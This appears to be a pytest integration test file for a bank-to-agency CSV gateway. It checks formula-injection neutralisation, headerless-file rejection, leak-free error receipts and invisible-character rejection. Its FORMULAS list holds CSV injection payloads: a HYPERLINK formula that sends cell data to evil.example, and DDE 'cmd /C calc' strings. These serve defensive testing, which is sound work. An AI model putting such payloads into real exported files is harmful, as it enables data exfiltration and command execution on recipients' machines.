"""Hostile content through the whole flow (issue 9): spreadsheet formulas both ways, a file
without its header row, invisible formatting characters in names."""

from __future__ import annotations

import csv
import io
import json

import pytest

from gateway import synth
from tests.flowsite import Site
from tests.integration.test_results_flow import results_csv, row

pytestmark = pytest.mark.integration

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.fixture
def site(tmp_path, keybox):
    return Site(tmp_path / "site", keybox)


def slice_rows(site: Site, agency: str, role: str) -> list[dict[str, str]]:
    (path,) = site.zone(agency, "inbox").glob(f"*.{agency}.{role}.csv.pgp")
    opened = site.open_as(f"{agency.lower()}-{role}", path)
    return list(csv.DictReader(io.StringIO(opened.body.decode())))


def test_formulas_in_a_case_file_reach_no_agency_as_formulas(site):
    records = list(synth.cases(4, ["AG001"], seed=31))
    records[0]["customer_name"] = FORMULAS[0][:60]
    records[1]["home_address"] = FORMULAS[1]
    records[2]["employer"] = FORMULAS[2]
    records[3]["contact1_relation"] = FORMULAS[3]
    site.drop_cases("B1.csv.pgp", records)
    assert site.run() == {"accepted": 1}
    for role in ("supervisor", "collector"):
        for r in slice_rows(site, "AG001", role):
            for field, value in r.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (role, field, value)
    sup = {r["case_id"]: r for r in slice_rows(site, "AG001", "supervisor")}
    assert sup[records[0]["case_id"]]["customer_name"] == "'" + FORMULAS[0][:60]  # text, kept
    assert sup[records[1]["case_id"]]["home_address"] == "'" + FORMULAS[1]
    (receipt,) = site.receipts().values()
    assert receipt["counts"]["neutralised"] == 4


def test_formulas_in_results_reach_the_bank_as_text(site):
    records = list(synth.cases(3, ["AG001"], seed=32))
    site.drop_cases("B1.csv.pgp", records)
    assert site.run() == {"accepted": 1}
    ids = [r["case_id"] for r in records]
    site.upload("AG001", "R1.csv.pgp", results_csv([
        row(ids[0], note=FORMULAS[0]), row(ids[1], outcome=FORMULAS[2][:60]),
        row(ids[2], "CONTACT_UPDATE", target="debtor", new_address=FORMULAS[1])]))
    assert site.run() == {"accepted": 1}
    rows = site.bank_results()
    assert [r["note"] for r in rows if r["note"]] == ["'" + FORMULAS[0]]
    for r in rows:
        for field in ("note", "outcome", "new_address"):
            assert not r[field].startswith(("=", "+", "-", "@")), (field, r[field])
    assert site.agency_receipts("AG001")["R1.csv.pgp.receipt.json.pgp"]["counts"]["neutralised"] == 3


def test_a_headerless_file_names_no_value_in_its_receipt(site):
    records = list(synth.cases(3, ["AG001"], seed=33))
    body = synth.to_csv(records).split(b"\r\n", 1)[1]  # the header row left out
    site.drop("B1.csv.pgp", body)
    assert site.run() == {"rejected": 1}
    (receipt,) = site.receipts().values()
    assert [e["code"] for e in receipt["errors"]] == ["E_NO_HEADER"]
    text = json.dumps(receipt, ensure_ascii=False)
    for field in ("account_number", "customer_name", "id_number", "mobile", "home_address"):
        assert records[0][field] not in text, field


def test_an_unknown_column_that_looks_like_a_value_is_named_by_position(site):
    records = list(synth.cases(2, ["AG001"], seed=34))
    header = ",".join([*synth.CASE_COLUMNS, "13800138000"]).encode()
    body = synth.to_csv(records).split(b"\r\n", 1)[1].replace(b"\r\n", b",x\r\n")
    site.drop("B1.csv.pgp", header + b"\r\n" + body)
    assert site.run() == {"rejected": 1}
    (receipt,) = site.receipts().values()
    (err,) = receipt["errors"]
    assert err["code"] == "E_UNKNOWN_COLUMN" and "13800138000" not in err["message"]
    assert f"column {len(synth.CASE_COLUMNS) + 1}" in err["message"]


@pytest.mark.parametrize("char", ["\u202e", "\u200b"], ids=["rtl-override", "zero-width-space"])
def test_invisible_formatting_characters_in_names_are_rejected(site, char):
    records = list(synth.cases(2, ["AG001"], seed=35))
    records[0]["customer_name"] = records[0]["customer_name"][:1] + char + records[0]["customer_name"][1:]
    records[1]["contact1_name"] = char + "李四"
    site.drop_cases("B1.csv.pgp", records)
    assert site.run() == {"rejected": 1}
    (receipt,) = site.receipts().values()
    assert {(e["row"], e["field"], e["code"]) for e in receipt["errors"]} == {
        (1, "customer_name", "E_TEXT"), (2, "contact1_name", "E_TEXT")}
